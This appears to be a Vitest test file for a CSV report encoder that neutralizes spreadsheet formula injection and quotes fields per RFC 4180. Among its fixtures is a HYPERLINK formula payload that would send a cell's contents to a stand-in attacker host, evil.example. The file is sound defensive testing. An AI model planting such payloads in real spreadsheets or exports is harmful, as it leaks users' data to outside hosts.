import { describe, expect, it } from "vitest";
import { csvField, encodeCsv, neutralizeFormula } from "./report-csv";

describe("CSV cells are safe to open in a spreadsheet", () => {
  it.each<[string, string]>([
    ["=1+1", "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', `'=HYPERLINK("http://evil.example/?"&A1,"詳細")`],
    ["+81 3 1234", "'+81 3 1234"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["入金が反映されません", "入金が反映されません"],
    ["a=b", "a=b"],
    [" =1+1", " =1+1"],
    ["", ""],
  ])("%j becomes %j", (input, output) => {
    expect(neutralizeFormula(input)).toBe(output);
  });

  it.each<[string | number | null | undefined, string]>([
    ["plain", "plain"],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\r\nlines", '"two\r\nlines"'],
    ["line\nbreak", '"line\nbreak"'],
    ['=HYPERLINK("x")', `"'=HYPERLINK(""x"")"`],
    ["\rCR first", `"'\rCR first"`],
    [12.5, "12.5"],
    [-3, "-3"],
    [0, "0"],
    [Number.NaN, ""],
    [null, ""],
    [undefined, ""],
  ])("field %j is written %j", (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it("ends every record with CRLF (RFC 4180)", () => {
    expect(
      encodeCsv(
        ["件名", "件数"],
        [
          ["=cmd", 2],
          ["a,b", null],
        ],
      ),
    ).toBe('件名,件数\r\n\'=cmd,2\r\n"a,b",\r\n');
  });
});
